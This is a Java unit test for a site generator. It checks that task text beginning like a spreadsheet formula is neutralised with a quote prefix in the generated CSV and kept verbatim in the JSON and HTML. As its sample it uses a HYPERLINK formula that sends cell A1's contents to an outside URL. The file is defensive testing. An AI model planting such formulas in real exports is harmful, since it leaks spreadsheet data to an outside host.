package org.gongkai.periods;

import static org.gongkai.testing.ProblemAssert.assertNoErrors;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import org.gongkai.Gongkai;
import org.gongkai.TestSite;
import org.gongkai.testing.Csv;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A task whose text starts like a spreadsheet formula reaches the CSV made for Excel as text
 * (prefixed with a single quote) and the JSON exactly as written.
 */
class CsvInjectionTest {

  @TempDir
  Path dir;

  @Test
  void aFormulaInATaskIsTextInTheCsvAndExactInTheJson() throws Exception {
    String formula = "=HYPERLINK(\"http://www.test.gov.cn/?\"&A1,\"点击查看\")";
    TestSite site = TestSite.create(dir)
        .write("content/zdgz/_column.yaml", "title: 重点工作\n")
        .write("content/zdgz/list.yaml", "title: 重点工作清单\nwritten: 2023-03-01\n"
            + "published: 2023-03-01\ntopic: 政务公开\ntasks:\n"
            + "  - seq: 1\n    content: '" + formula + "'\n    progress: '@SUM(1+1)'\n"
            + "    units: [市发改委]\n"
            + "  - seq: 2\n    content: '-2+3'\n    progress: '+86 0571'\n"
            + "    units: [市财政局]\n");
    assertNoErrors(Gongkai.builder().siteDirectory(dir).outputDirectory(dir.resolve("out"))
        .today(LocalDate.of(2023, 12, 31)).build().build().problems());

    String csv = Files.readString(dir.resolve("out/zdgz/2023/list.csv"), StandardCharsets.UTF_8);
    List<List<String>> rows = Csv.parse(csv.substring(1));
    assertEquals("'" + formula, rows.get(1).get(3));
    assertEquals("'@SUM(1+1)", rows.get(1).get(4));
    assertEquals("'-2+3", rows.get(2).get(3));
    assertEquals("'+86 0571", rows.get(2).get(4));
    assertEquals("1", rows.get(1).get(0), "numbers stay numbers");

    String json = Files.readString(dir.resolve("out/zdgz/2023/list.json"));
    assertEquals(formula, new com.fasterxml.jackson.databind.ObjectMapper().readTree(json)
        .get("tasks").get(0).get("content").asText());
    org.junit.jupiter.api.Assertions.assertTrue(Jsoup.parse(
        dir.resolve("out/zdgz/2023/list.html").toFile(), "UTF-8").selectFirst("#task-1").text()
        .contains(formula), "the page shows the text as written");
  }
}
